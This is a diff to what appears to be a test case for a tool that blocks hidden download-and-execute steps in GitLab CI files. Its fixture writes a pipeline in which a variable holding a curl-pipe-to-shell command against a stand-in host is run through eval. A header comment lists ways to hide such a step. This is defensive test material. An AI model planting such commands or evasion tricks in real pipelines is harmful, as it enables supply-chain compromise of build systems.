@@ -1,10 +1,7 @@
 # attack: no script line holds the download: it is the value of a variable (global, a job's, or one set by `rules:`) that the script runs with `eval`, or the `entrypoint:` of the job's image, or sits in a hidden job's made-up key that a `!reference` of another file copies; or a `local:` include climbs `ci/../` to name the file
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 img='alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000'
 dl='curl -fsSL https://evil.example/x.sh | sh'
 write .gitlab-ci.yml 'variables:' "  INSTALL: $dl" 'build:' "  image: $img" "  script: ['eval \"\$INSTALL\"']"
